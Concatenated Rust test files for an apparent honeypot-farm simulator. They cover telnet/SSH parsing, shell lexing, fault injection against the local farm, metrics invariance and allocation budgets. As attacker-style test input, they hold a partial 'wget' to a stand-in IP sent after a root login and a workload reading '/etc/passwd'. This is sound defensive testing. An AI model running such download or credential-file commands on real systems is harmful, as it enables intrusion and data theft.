    BYTES.get_or_init(|| {
        let cfg = SimConfig::test(3);
        let out = Simulation::run(cfg.clone());
        let mut v = Vec::new();
        out.to_snapshot(&cfg)
            .write_to(&mut v)
            .expect("write snapshot");
        assert!(v.len() > 64, "fixture snapshot suspiciously small");
        v
    })
}

/// Merge adjacent `Data` events so chunking differences don't mask
/// semantic equality.
fn normalize(events: Vec<TelnetEvent>) -> Vec<TelnetEvent> {
    let mut out: Vec<TelnetEvent> = Vec::new();
    for ev in events {
        match (out.last_mut(), ev) {
            (Some(TelnetEvent::Data(tail)), TelnetEvent::Data(more)) => tail.extend(more),
            (_, ev) => out.push(ev),
        }
    }
    out
}

fn shell() -> ShellSession {
    ShellSession::new(Default::default(), Box::new(SyntheticFetcher))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// The telnet decoder is total on arbitrary bytes, and the line
    /// assembler is total on whatever data survives decoding.
    #[test]
    fn telnet_decoder_total_on_raw_bytes(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let mut dec = TelnetDecoder::new();
        let mut lines = LineAssembler::new();
        for ev in dec.feed(&bytes) {
            if let TelnetEvent::Data(d) = ev {
                let _ = lines.push(&d);
            }
        }
        let _ = lines.pending();
    }

    /// … and on structured almost-valid negotiation streams.
    #[test]
    fn telnet_decoder_total_on_structured(stream in telnet_stream()) {
        let mut dec = TelnetDecoder::new();
        let _ = dec.feed(&stream);
    }

    /// Feeding a stream in two chunks yields the same events as feeding it
    /// whole: the decoder's state machine survives arbitrary packetization.
    #[test]
    fn telnet_split_feed_equivalence(stream in telnet_stream(), cut in 0usize..512) {
        let cut = cut % (stream.len() + 1);
        let mut whole = TelnetDecoder::new();
        let one = normalize(whole.feed(&stream));

        let mut split = TelnetDecoder::new();
        let mut two = split.feed(&stream[..cut]);
        two.extend(split.feed(&stream[cut..]));
        prop_assert_eq!(one, normalize(two));
    }

    /// SSH ident parsing is total on structured near-valid lines, and a
    /// successfully parsed ident survives a render → parse round-trip.
    #[test]
    fn ssh_ident_parse_total_and_roundtrip(line in ssh_ident_line()) {
        if let Ok(ident) = SshIdent::parse(&line) {
            let again = SshIdent::parse(&ident.render());
            prop_assert_eq!(again.as_ref(), Ok(&ident));
        }
    }

    /// … and on arbitrary (possibly non-UTF-8 lossy) byte strings.
    #[test]
    fn ssh_ident_parse_total_on_raw_bytes(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let line = String::from_utf8_lossy(&bytes);
        let _ = SshIdent::parse(&line);
    }

    /// The shell lexer is total on arbitrary printable noise and on
    /// structured command lines.
    #[test]
    fn lexer_total_on_raw_bytes(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        let line = String::from_utf8_lossy(&bytes);
        let _ = split_statements(&line);
    }

    /// lex → render → lex is the identity on parsed structure: rendering a
    /// parse back to text and re-lexing reproduces the same statements.
    #[test]
    fn lexer_render_roundtrip(line in command_line()) {
        let first = split_statements(&line);
        let rendered = render_statements(&first);
        let second = split_statements(&rendered);
        let _ = &rendered;
        prop_assert_eq!(first, second);
    }

    /// URI extraction is total, and the URI-biased generator actually
    /// exercises it (extracted URIs are non-empty strings).
    #[test]
    fn uri_extraction_total(line in uri_command_line()) {
        for u in extract_uris(&line) {
            prop_assert!(!u.0.is_empty());
        }
    }

    /// The full shell (interpreter + VFS + builtins + fetcher) never panics
    /// on generated command lines.
    #[test]
    fn shell_execute_total(line in command_line(), chaser in uri_command_line()) {
        let mut sh = shell();
        let _ = sh.execute(&line);
        let _ = sh.execute(&chaser);
    }

    /// Every snapshot corruption is rejected with a typed `SnapshotError` —
    /// the loader never panics and never silently accepts damaged bytes.
    #[test]
    fn snapshot_mutations_rejected(op in snapshot_mutation()) {
        let original = snapshot_bytes();
        let mut mutated = original.to_vec();
        op.apply(&mut mutated);
        prop_assert!(mutated != original, "mutation {:?} was a no-op", op);
        match Snapshot::read_from(&mut mutated.as_slice()) {
            Ok(_) => prop_assert!(false, "corrupted snapshot accepted after {:?}", op),
            Err(e) => {
                // The error is a typed variant with a readable rendering.
                prop_assert!(!e.to_string().is_empty());
            }
        }
    }
}

/// The checked-in Cowrie-style corpus drives every shell surface without
/// panicking, and the lexer round-trip holds on each line.
#[test]
fn corpus_commands_drive_the_shell() {
    let path = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/scenarios/corpus_commands.txt");
    let corpus = std::fs::read_to_string(&path).expect("corpus file");
    let mut sh = shell();
    let mut n = 0usize;
    for line in corpus.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        n += 1;
        let first = split_statements(line);
        if line.is_ascii() {
            // Render → re-lex is the identity only for ASCII input: the
            // lexer transcodes bytes Latin-1 style (one char per byte), so
            // rendering non-ASCII words re-encodes them as multi-byte UTF-8
            // and a second lex expands them again. Non-ASCII corpus lines
            // are covered by the differential oracle in
            // tests/fuzz_lexer_equiv.rs instead.
            let second = split_statements(&render_statements(&first));
            assert_eq!(first, second, "lexer round-trip unstable for {line:?}");
        }
        let _ = extract_uris(line);
        let _ = sh.execute(line);
    }
    assert!(n >= 30, "corpus unexpectedly small: {n} lines");
}
