//! Wire fault injection: hostile and broken clients must never panic the
//! farm, and every accepted connection must end in exactly one of the two
//! documented outcomes — a session record (classify) or an explicit
//! rejection (drop) — so the accounting invariant
//! `accepted == ingested + rejected` survives every fault.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use honeyfarm::wire::{FarmConfig, FarmStats, LiveFarm, Timing, MAX_LINE};

/// Poll a stats predicate until it holds or two seconds pass (the reactor
/// tick is 25ms; faults are observed asynchronously).
fn eventually(stats: &FarmStats, what: &str, pred: impl Fn(&FarmStats) -> bool) {
    let deadline = Instant::now() + Duration::from_secs(2);
    while Instant::now() < deadline {
        if pred(stats) {
            return;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    panic!("timed out waiting for: {what}");
}

/// Drain a socket until the server closes it.
fn read_to_eof(sock: &mut TcpStream) -> Vec<u8> {
    let _ = sock.set_read_timeout(Some(Duration::from_secs(5)));
    let mut buf = Vec::new();
    let mut chunk = [0u8; 1024];
    loop {
        match sock.read(&mut chunk) {
            Ok(0) => break,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
            Err(_) => break,
        }
    }
    buf
}

#[test]
fn abrupt_disconnects_mid_negotiation_and_mid_command_yield_records() {
    let farm = LiveFarm::start(FarmConfig {
        nodes: 1,
        per_ip_cap: 1 << 30,
        ..FarmConfig::default()
    })
    .expect("farm");
    let node = farm.nodes()[0];

    // Mid-negotiation: open telnet, answer nothing, send half an IAC
    // sequence, vanish. The server must record a credential-less session.
    {
        let mut sock = TcpStream::connect(node.telnet).expect("connect");
        sock.write_all(&[255]).expect("half an IAC sequence");
        // Dropped here: FIN mid-negotiation.
    }

    // Mid-command: authenticate over SSH, then die with a partial command
    // line (no terminator) in flight.
    {
        let mut sock = TcpStream::connect(node.ssh).expect("connect");
        sock.write_all(b"USER root\nPASS hunter2\nwget http://203.0.113.9/half")
            .expect("partial command");
    }

    let stats = farm.stats();
    eventually(&stats, "both sessions ingested", |s| s.ingested() == 2);
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.stats.accepted(), 2);
    // The partial command line was never terminated: discarded, not run.
    assert_eq!(out.stats.commands(), 0);
    assert_eq!(out.stats.auths_ok(), 1);
}

#[test]
fn slowloris_is_cut_by_the_read_deadline() {
    // Virtual-timing farms guard against slow clients with a wall-clock
    // read deadline; one second keeps the test fast.
    let farm = LiveFarm::start(FarmConfig {
        nodes: 1,
        timing: Timing::Virtual,
        wall_timeout_secs: 1,
        per_ip_cap: 1 << 30,
        ..FarmConfig::default()
    })
    .expect("farm");
    let node = farm.nodes()[0];
    let mut sock = TcpStream::connect(node.ssh).expect("connect");
    // Dribble a line that never ends.
    for _ in 0..3 {
        sock.write_all(b"US").expect("dribble");
        std::thread::sleep(Duration::from_millis(200));
    }
    let reply = read_to_eof(&mut sock);
    assert!(!reply.is_empty(), "greeting was sent before the cut");
    let stats = farm.stats();
    eventually(&stats, "timeout recorded", |s| s.wall_timeouts() == 1);
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.stats.ingested(), 1, "timed-out session still recorded");
}

#[test]
fn oversized_line_is_dropped_with_a_record() {
    let farm = LiveFarm::start(FarmConfig {
        nodes: 1,
        per_ip_cap: 1 << 30,
        ..FarmConfig::default()
    })
    .expect("farm");
    let node = farm.nodes()[0];
    let mut sock = TcpStream::connect(node.ssh).expect("connect");
    // Twice the line bound, no terminator: the assembler must cap, the
    // server must close, and the session must still be accounted.
    sock.write_all(&vec![b'A'; MAX_LINE * 2]).expect("flood");
    let _ = read_to_eof(&mut sock);
    let stats = farm.stats();
    eventually(&stats, "oversized line counted", |s| {
        s.oversized_lines() == 1
    });
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.stats.ingested(), 1);
}

#[test]
fn telnet_option_storm_is_cut_by_the_negotiation_budget() {
    let farm = LiveFarm::start(FarmConfig {
        nodes: 1,
        per_ip_cap: 1 << 30,
        ..FarmConfig::default()
    })
    .expect("farm");
    let node = farm.nodes()[0];
    let mut sock = TcpStream::connect(node.telnet).expect("connect");
    // 200 DO options — far past the negotiation budget.
    let mut storm = Vec::new();
    for i in 0..200u8 {
        storm.extend_from_slice(&[255, 253, i]);
    }
    let _ = sock.write_all(&storm);
    let _ = read_to_eof(&mut sock);
    let stats = farm.stats();
    eventually(&stats, "storm counted", |s| s.telnet_storms() == 1);
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.stats.ingested(), 1, "stormed session still recorded");
}

#[test]
fn per_ip_cap_breach_is_rejected_without_a_record() {
    let farm = LiveFarm::start(FarmConfig {
        nodes: 1,
        per_ip_cap: 2,
        ..FarmConfig::default()
    })
    .expect("farm");
    let node = farm.nodes()[0];
    let stats = farm.stats();
    // Two connections hold their slots; the third breaches the cap.
    let a = TcpStream::connect(node.ssh).expect("first");
    let b = TcpStream::connect(node.ssh).expect("second");
    eventually(&stats, "two accepted", |s| s.accepted() == 2);
    let mut c = TcpStream::connect(node.ssh).expect("third");
    let reply = read_to_eof(&mut c);
    assert!(reply.is_empty(), "rejected connection gets no greeting");
    eventually(&stats, "breach rejected", |s| s.rejected_ip_cap() == 1);
    drop(a);
    drop(b);
    eventually(&stats, "held sessions recorded", |s| s.ingested() == 2);
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.stats.accepted(), 3);
    assert_eq!(out.stats.ingested(), 2, "no record for the rejected breach");
    assert_eq!(out.stats.rejected_ip_cap(), 1);
}

#[test]
fn garbage_bytes_never_panic_and_always_account() {
    let farm = LiveFarm::start(FarmConfig {
        nodes: 2,
        per_ip_cap: 1 << 30,
        ..FarmConfig::default()
    })
    .expect("farm");
    // A deterministic xorshift spray of binary garbage at both protocols.
    let mut x = 0x9e3779b9u32;
    let mut rnd = move || {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        x
    };
    let mut driven = 0u64;
    for round in 0..8 {
        let node = farm.nodes()[round % 2];
        let addr = if round % 2 == 0 {
            node.ssh
        } else {
            node.telnet
        };
        let mut sock = TcpStream::connect(addr).expect("connect");
        let mut junk = Vec::with_capacity(512);
        for _ in 0..128 {
            junk.extend_from_slice(&rnd().to_le_bytes());
        }
        // Mix in newlines so some of it parses as (nonsense) lines.
        for i in (0..junk.len()).step_by(37) {
            junk[i] = b'\n';
        }
        let _ = sock.write_all(&junk);
        let _ = sock.shutdown(std::net::Shutdown::Write);
        let _ = read_to_eof(&mut sock);
        driven += 1;
    }
    let stats = farm.stats();
    eventually(&stats, "all garbage sessions resolved", |s| {
        s.ingested() + s.rejected_ip_cap() == driven
    });
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.stats.accepted(), driven);
}
