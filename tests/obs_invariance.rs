//! The observability layer's hard invariant: enabling metrics never
//! perturbs any simulation, snapshot, or report byte, and the counters it
//! records are themselves deterministic.
//!
//! Two families of proof, both via the testkit oracles:
//!
//! 1. **Metrics-off vs metrics-on** at threads ∈ {1, 2, 8}: the full
//!    pipeline (simulate → snapshot encode/decode → aggregates → report)
//!    produces bit-identical results whether or not recording is enabled.
//! 2. **Thread-count invariance of the deterministic counters**: the
//!    subset of metrics that count *work done* (sessions executed and
//!    ingested, rows written/loaded/folded, artifacts written) must not
//!    depend on the thread count, even though scheduling does. Manifests
//!    are restricted to that subset with [`RunManifest::filtered`] and
//!    compared field-by-field with `diff_manifests`.
//!
//! The obs registry is process-global, so every test serializes on one
//! mutex and starts from `obs::reset()`.

use std::sync::Mutex;

use honeyfarm::core::{Aggregates, Report};
use honeyfarm::obs::{self, RunManifest};
use honeyfarm::prelude::*;
use honeyfarm::testkit::{diff_aggregates, diff_manifests, diff_reports, diff_sim_outputs};

/// Serializes tests within this process: obs state is process-global.
static OBS_LOCK: Mutex<()> = Mutex::new(());

/// Counter/histogram names whose values are pure functions of the input —
/// the thread-count-invariant subset the cross-thread comparison keeps.
/// (Span timings, `sim.shards_executed`, `analysis.shards_folded`, the
/// `sim.threads` gauge, and per-batch histograms legitimately vary.)
const INVARIANT: &[&str] = &[
    "sim.days_executed",
    "sim.sessions_executed",
    "farm.sessions_ingested",
    "farm.artifact_observations",
    "snapshot.rows_written",
    "snapshot.rows_loaded",
    "snapshot.bytes_written",
    "analysis.rows_folded",
    "report.artifacts_written",
    "sim.day_sessions",
];

fn config(threads: usize) -> SimConfig {
    let mut cfg = SimConfig::test(6);
    cfg.threads = threads;
    cfg
}

/// Everything one pipeline run observes: outputs at each stage, the exact
/// snapshot encoding, and every rendered report artifact byte-for-byte.
struct PipelineRun {
    out: SimOutput,
    snapshot_bytes: Vec<u8>,
    reloaded: SimOutput,
    agg: Aggregates,
    report: Report,
    artifacts: std::collections::BTreeMap<String, Vec<u8>>,
}

/// Simulate, encode + decode the snapshot, aggregate, build the report,
/// and render it, all at the given thread count. `label` keeps the
/// scratch render directories of concurrent test processes apart.
fn run_pipeline(threads: usize, label: &str) -> PipelineRun {
    let cfg = config(threads);
    let out = Simulation::run(cfg.clone());
    let mut snapshot_bytes = Vec::new();
    out.to_snapshot(&cfg)
        .write_to(&mut snapshot_bytes)
        .expect("snapshot encode");
    let reloaded = SimOutput::from_snapshot(
        Snapshot::read_from(&mut &snapshot_bytes[..]).expect("snapshot decode"),
    );
    let agg = Aggregates::compute_threaded(&out.dataset, threads);
    let report = Report::build_with_tags_threaded(&out.dataset, &agg, &out.tags, threads);

    let dir = std::env::temp_dir().join(format!(
        "hf-obs-invariance-{}-t{threads}-{label}",
        std::process::id()
    ));
    report.write_dir(&dir).expect("render report");
    let mut artifacts = std::collections::BTreeMap::new();
    for entry in std::fs::read_dir(&dir).expect("read render dir") {
        let entry = entry.expect("dir entry");
        let name = entry.file_name().to_string_lossy().into_owned();
        artifacts.insert(name, std::fs::read(entry.path()).expect("read artifact"));
    }
    std::fs::remove_dir_all(&dir).ok();

    PipelineRun {
        out,
        snapshot_bytes,
        reloaded,
        agg,
        report,
        artifacts,
    }
}

/// Run the pipeline with recording on and return the run plus its
/// manifest. Caller must hold `OBS_LOCK`.
fn run_with_metrics(threads: usize) -> (PipelineRun, RunManifest) {
    obs::reset();
    obs::enable();
    let run = run_pipeline(threads, "on");
    let manifest = obs::manifest(&format!("obs_invariance threads={threads}"));
    obs::disable();
    obs::reset();
    (run, manifest)
}

/// Metrics-on and metrics-off runs must agree byte-for-byte at every
/// pipeline stage, for every supported thread count.
#[test]
fn metrics_never_perturb_pipeline_output() {
    let _g = OBS_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    for threads in [1usize, 2, 8] {
        obs::disable();
        obs::reset();
        let off = run_pipeline(threads, "off");
        let (on, manifest) = run_with_metrics(threads);

        let l = format!("metrics-off t={threads}");
        let r = format!("metrics-on t={threads}");
        diff_sim_outputs(&l, &off.out, &r, &on.out).assert_identical();
        assert_eq!(
            off.snapshot_bytes, on.snapshot_bytes,
            "snapshot bytes diverged at threads={threads}"
        );
        diff_sim_outputs(&l, &off.reloaded, &r, &on.reloaded).assert_identical();
        diff_aggregates(&l, &off.agg, &r, &on.agg).assert_identical();
        diff_reports(&l, &off.report, &r, &on.report).assert_identical();
        assert_eq!(
            off.artifacts, on.artifacts,
            "rendered report artifacts diverged at threads={threads}"
        );

        // And the enabled run did actually record something.
        assert!(
            manifest.counters.get("sim.sessions_executed").copied() > Some(0),
            "metrics-on run recorded no sessions at threads={threads}"
        );
    }
}

/// A metrics-off run records nothing at all: the disabled recorder is a
/// true no-op, not a buffered one.
#[test]
fn disabled_recorder_records_nothing() {
    let _g = OBS_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    obs::disable();
    obs::reset();
    let _run = run_pipeline(2, "disabled");
    let manifest = obs::manifest("disabled");
    assert!(
        manifest.counters.is_empty(),
        "counters: {:?}",
        manifest.counters
    );
    assert!(manifest.gauges.is_empty());
    assert!(manifest.histograms.is_empty());
    assert!(manifest.spans.is_empty());
}

/// The deterministic counters are thread-count invariant: restricted to
/// the `INVARIANT` subset, the manifests of 1-, 2-, and 8-thread runs are
/// field-for-field identical (modulo the tool label).
#[test]
fn deterministic_counters_thread_invariant() {
    let _g = OBS_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    let keep = |name: &str| INVARIANT.contains(&name);

    let (base_run, base_manifest) = run_with_metrics(1);
    let mut base = base_manifest.filtered(keep);
    base.tool = "obs_invariance".to_string();

    // Cross-check the counters against ground truth from the run itself.
    let n = base_run.out.dataset.len() as u64;
    assert!(n > 100, "fixture must be non-trivial");
    for name in [
        "sim.sessions_executed",
        "farm.sessions_ingested",
        "snapshot.rows_written",
        "snapshot.rows_loaded",
        "analysis.rows_folded",
    ] {
        assert_eq!(
            base_manifest.counters.get(name).copied(),
            Some(n),
            "{name} must equal the dataset row count"
        );
    }
    assert_eq!(
        base_manifest.counters.get("sim.days_executed").copied(),
        Some(u64::from(config(1).window.num_days())),
    );
    assert_eq!(
        base_manifest
            .counters
            .get("snapshot.bytes_written")
            .copied(),
        Some(base_run.snapshot_bytes.len() as u64),
        "snapshot.bytes_written must equal the encoded snapshot size"
    );
    // 6 tables + 21 figure TSVs (19/23/24 share files) + summary.md.
    assert_eq!(
        base_manifest
            .counters
            .get("report.artifacts_written")
            .copied(),
        Some(28),
    );
    assert_eq!(base_run.artifacts.len(), 28);

    for threads in [2usize, 8] {
        let (_, manifest) = run_with_metrics(threads);
        let mut got = manifest.filtered(keep);
        got.tool = "obs_invariance".to_string();
        diff_manifests("threads=1", &base, &format!("threads={threads}"), &got).assert_identical();
    }
}
