//! Allocation-budget tests for the session hot path.
//!
//! The shell pipeline (lexer → interpreter → builtins → VFS) keeps all of
//! its per-line scratch in reusable arenas ([`hf_shell::SessionScratch`]):
//! after a warmup pass has grown every buffer to workload capacity,
//! re-running the same workload must allocate **nothing**. This binary
//! installs the testkit's counting global allocator and pins that contract,
//! plus a coarser per-session allocation budget for the full honeypot
//! driver path the simulator runs.
//!
//! Counters are per-thread, so the harness running other test binaries in
//! parallel doesn't perturb the windows.

use honeyfarm::agents::{Ecosystem, EcosystemConfig, Scale};
use honeyfarm::shell::{NullFetcher, ShellSession, SystemProfile};
use honeyfarm::sim::exec::{build_configs, execute_plan_full, ExecCtx, PreparedScripts};
use honeyfarm::simclock::StudyWindow;
use honeyfarm::testkit::alloc::{allocated_bytes, allocation_count, CountingAlloc};

#[global_allocator]
static ALLOC: CountingAlloc = CountingAlloc::new();

/// A command-line workload covering the lexer, pipelines, quoting,
/// redirect-free builtins, and VFS reads — everything on the per-line hot
/// path that must run out of arena scratch. No downloads and no filesystem
/// writes: those legitimately allocate (artifact bodies, new VFS nodes).
const WORKLOAD: &[&str] = &[
    "echo hello world",
    "uname -a; id",
    "echo 'single quoted  spaces' \"double quoted\"",
    "cat /etc/passwd | grep root",
    "cat /proc/cpuinfo | head -4",
    "cd /tmp",
    "ls",
    "cd /",
    "busybox echo probe",
    "nohup uname -m",
    "unknowncmd --flag",
    "sh -c \"echo nested; uname\"",
];

fn run_workload(sh: &mut ShellSession) {
    for line in WORKLOAD {
        sh.execute_quiet(line);
    }
}

/// After one warmup pass (which sizes the arenas) and an event drain (which
/// clears them keeping capacity), the same workload re-run through the same
/// session performs zero heap allocations.
#[test]
fn steady_state_shell_pipeline_allocates_nothing() {
    let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
    // Warmup: grows the line buffers, event arena, and path scratch.
    run_workload(&mut sh);
    let _ = sh.take_events(); // clears the arena, keeps capacity

    let before = allocation_count();
    run_workload(&mut sh);
    let delta = allocation_count() - before;
    assert_eq!(
        delta,
        0,
        "steady-state lexer/interp/builtins path must not allocate \
         (got {delta} allocations for {} lines)",
        WORKLOAD.len()
    );

    // Drain outside the window: materializing owned SessionEvents is the
    // serde/record boundary and is allowed to allocate.
    let events = sh.take_events();
    assert!(!events.commands.is_empty());
}

/// Constructing a collector sized for the full paper scale must not eagerly
/// reserve the whole estimated session count — 402 M rows × 48 bytes is a
/// ~19 GB upfront reservation that made scale-1.0 runs die on startup. The
/// eager hint is capped ([`honeyfarm::farm::SessionStore::EAGER_ROW_RESERVE_CAP`])
/// and the store grows geometrically as rows actually arrive.
#[test]
fn full_scale_collector_construction_stays_under_64mb() {
    use honeyfarm::farm::{Collector, FarmPlan};
    use honeyfarm::geo::{World, WorldConfig};

    let world = World::build(1, &WorldConfig::tiny());
    let plan = FarmPlan::paper();
    let estimated = Ecosystem::session_budget(&Scale::full(), &StudyWindow::paper()) as usize;
    assert!(
        estimated >= 400_000_000,
        "paper-scale estimate: {estimated}"
    );

    let before = allocated_bytes();
    let collector = Collector::with_capacity(&world, plan, estimated);
    let delta = allocated_bytes() - before;
    assert!(
        delta < 64 * 1024 * 1024,
        "scale-1.0 collector construction allocated {delta} bytes (≥ 64 MB)"
    );
    drop(collector);
}

/// The full simulator driver path (honeypot state machine + prepared
/// scripts + record materialization) stays within a pinned per-session
/// allocation budget once warm. The budget is deliberately loose — records
/// and tag strings legitimately allocate — but it catches order-of-magnitude
/// regressions like per-line parsing or per-session VFS seeding coming back.
#[test]
fn full_driver_stays_within_per_session_budget() {
    const BUDGET_PER_SESSION: u64 = 60;

    let mut eco = Ecosystem::new(EcosystemConfig {
        seed: 0x5ca1e,
        scale: Scale::tiny(),
        window: StudyWindow::first_days(4),
    });
    let configs = build_configs(&eco.plan);
    let plans = eco.plan_day(0);
    let ctx = ExecCtx {
        plan: &eco.plan,
        configs: &configs,
        catalog: &eco.catalog,
        creds: &eco.creds,
        pool: eco.pool_ref(),
    };
    let mut prepared = PreparedScripts::new();
    prepared.prepare_day(&ctx, &plans);
    let mut tags = honeyfarm::farm::TagDb::new();

    // Warmup pass: fills the scratch pool, VFS seed cache, and tag DB.
    let mut records = Vec::with_capacity(plans.len());
    for plan in &plans {
        records.push(execute_plan_full(&ctx, plan, &mut tags, &prepared).unwrap());
    }
    records.clear();

    let before = allocation_count();
    for plan in &plans {
        records.push(execute_plan_full(&ctx, plan, &mut tags, &prepared).unwrap());
    }
    let delta = allocation_count() - before;
    let per_session = delta as f64 / plans.len() as f64;
    assert!(
        per_session <= BUDGET_PER_SESSION as f64,
        "full-driver path exceeded the allocation budget: {per_session:.1} \
         allocations/session over {} sessions (budget {BUDGET_PER_SESSION})",
        plans.len()
    );
}
