//! Allocation-budget tests for the session hot path.
//!
//! The shell pipeline (lexer → interpreter → builtins → VFS) keeps all of
//! its per-line scratch in reusable arenas ([`hf_shell::SessionScratch`]):
//! after a warmup pass has grown every buffer to workload capacity,
//! re-running the same workload must allocate **nothing**. This binary
//! installs the testkit's counting global allocator and pins that contract,
//! plus a coarser per-session allocation budget for the full honeypot
//! driver path the simulator runs.
//!
//! Counters are per-thread, so the harness running other test binaries in
//! parallel doesn't perturb the windows.

use honeyfarm::agents::{Ecosystem, EcosystemConfig, Scale};
use honeyfarm::shell::{NullFetcher, ShellSession, SystemProfile};
use honeyfarm::sim::exec::{build_configs, execute_plan_full, ExecCtx, PreparedScripts};
use honeyfarm::simclock::StudyWindow;
use honeyfarm::testkit::alloc::{allocated_bytes, allocation_count, CountingAlloc};

#[global_allocator]
static ALLOC: CountingAlloc = CountingAlloc::new();

/// A command-line workload covering the lexer, pipelines, quoting,
/// redirect-free builtins, and VFS reads — everything on the per-line hot
/// path that must run out of arena scratch. No downloads and no filesystem
/// writes: those legitimately allocate (artifact bodies, new VFS nodes).
const WORKLOAD: &[&str] = &[
    "echo hello world",
    "uname -a; id",
    "echo 'single quoted  spaces' \"double quoted\"",
    "cat /etc/passwd | grep root",
    "cat /proc/cpuinfo | head -4",
    "cd /tmp",
    "ls",
    "cd /",
    "busybox echo probe",
    "nohup uname -m",
    "unknowncmd --flag",
    "sh -c \"echo nested; uname\"",
];

fn run_workload(sh: &mut ShellSession) {
    for line in WORKLOAD {
        sh.execute_quiet(line);
    }
}

/// After one warmup pass (which sizes the arenas) and an event drain (which
/// clears them keeping capacity), the same workload re-run through the same
/// session performs zero heap allocations.
#[test]
fn steady_state_shell_pipeline_allocates_nothing() {
    let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
    // Warmup: grows the line buffers, event arena, and path scratch.
    run_workload(&mut sh);
    let _ = sh.take_events(); // clears the arena, keeps capacity

    let before = allocation_count();
    run_workload(&mut sh);
    let delta = allocation_count() - before;
    assert_eq!(
        delta,
        0,
        "steady-state lexer/interp/builtins path must not allocate \
         (got {delta} allocations for {} lines)",
        WORKLOAD.len()
    );

    // Drain outside the window: materializing owned SessionEvents is the
    // serde/record boundary and is allowed to allocate.
    let events = sh.take_events();
    assert!(!events.commands.is_empty());
}

/// Constructing a collector sized for the full paper scale must not eagerly
/// reserve the whole estimated session count — 402 M rows × 48 bytes is a
/// ~19 GB upfront reservation that made scale-1.0 runs die on startup. The
/// eager hint is capped ([`honeyfarm::farm::SessionStore::EAGER_ROW_RESERVE_CAP`])
/// and the store grows geometrically as rows actually arrive.
#[test]
fn full_scale_collector_construction_stays_under_64mb() {
    use honeyfarm::farm::{Collector, FarmPlan};
    use honeyfarm::geo::{World, WorldConfig};

    let world = World::build(1, &WorldConfig::tiny());
    let plan = FarmPlan::paper();
    let estimated = Ecosystem::session_budget(&Scale::full(), &StudyWindow::paper()) as usize;
    assert!(
        estimated >= 400_000_000,
        "paper-scale estimate: {estimated}"
    );

    let before = allocated_bytes();
    let collector = Collector::with_capacity(&world, plan, estimated);
    let delta = allocated_bytes() - before;
    assert!(
        delta < 64 * 1024 * 1024,
        "scale-1.0 collector construction allocated {delta} bytes (≥ 64 MB)"
    );
    drop(collector);
}

/// The full simulator driver path (honeypot state machine + prepared
/// scripts + record materialization) stays within a pinned per-session
/// allocation budget once warm. The budget is deliberately loose — records
/// and tag strings legitimately allocate — but it catches order-of-magnitude
/// regressions like per-line parsing or per-session VFS seeding coming back.
#[test]
fn full_driver_stays_within_per_session_budget() {
    const BUDGET_PER_SESSION: u64 = 60;

    let mut eco = Ecosystem::new(EcosystemConfig {
        seed: 0x5ca1e,
        scale: Scale::tiny(),
        window: StudyWindow::first_days(4),
    });
    let configs = build_configs(&eco.plan);
    let plans = eco.plan_day(0);
    let ctx = ExecCtx {
        plan: &eco.plan,
        configs: &configs,
        catalog: &eco.catalog,
        creds: &eco.creds,
        pool: eco.pool_ref(),
    };
    let mut prepared = PreparedScripts::new();
    prepared.prepare_day(&ctx, &plans);
    let mut tags = honeyfarm::farm::TagDb::new();

    // Warmup pass: fills the scratch pool, VFS seed cache, and tag DB.
    let mut records = Vec::with_capacity(plans.len());
    for plan in &plans {
        records.push(execute_plan_full(&ctx, plan, &mut tags, &prepared).unwrap());
    }
    records.clear();

    let before = allocation_count();
    for plan in &plans {
        records.push(execute_plan_full(&ctx, plan, &mut tags, &prepared).unwrap());
    }
    let delta = allocation_count() - before;
    let per_session = delta as f64 / plans.len() as f64;
    assert!(
        per_session <= BUDGET_PER_SESSION as f64,
        "full-driver path exceeded the allocation budget: {per_session:.1} \
         allocations/session over {} sessions (budget {BUDGET_PER_SESSION})",
        plans.len()
    );
}

/// A chunked snapshot whose rows section spans many chunks, for the
/// streaming-codec budgets below. Overlap is forced off first so both the
/// reader and writer paths under test are the serial ones — the counting
/// allocator is per-thread, and the overlapped paths deliberately move
/// work (and its allocations) onto helper threads.
fn chunked_snapshot(rows_per_chunk: u32) -> Vec<u8> {
    std::env::set_var("HF_SNAPSHOT_NO_OVERLAP", "1");
    let cfg = honeyfarm::sim::SimConfig::test(6);
    let out = honeyfarm::sim::Simulation::run(cfg.clone());
    let snap = out.to_snapshot(&cfg);
    let mut bytes = Vec::new();
    snap.write_to_chunked(&mut bytes, rows_per_chunk)
        .expect("encode snapshot");
    bytes
}

/// Steady-state chunk decode allocates nothing: after the first chunk has
/// grown the reader's scratch (row buffer, raw-chunk buffer — the manifest
/// is pre-reserved at open), every further `next_chunk` reuses it. This is
/// the zero-copy codec contract: fixed-offset field views over one reused
/// byte buffer, no per-row or per-field allocation.
#[test]
fn steady_state_chunk_reads_allocate_nothing() {
    let bytes = chunked_snapshot(64);
    let mut reader = honeyfarm::farm::SnapshotReader::open(&bytes[..]).expect("open snapshot");
    let mut rows = Vec::new();

    // Warmup: the first chunk sizes rows + the raw chunk buffer.
    assert!(reader.next_chunk(&mut rows).expect("first chunk"));
    let mut chunks = 1u32;

    let before = allocation_count();
    while reader.next_chunk(&mut rows).expect("next chunk") {
        chunks += 1;
    }
    let delta = allocation_count() - before;
    assert!(chunks > 10, "want a many-chunk stream, got {chunks}");
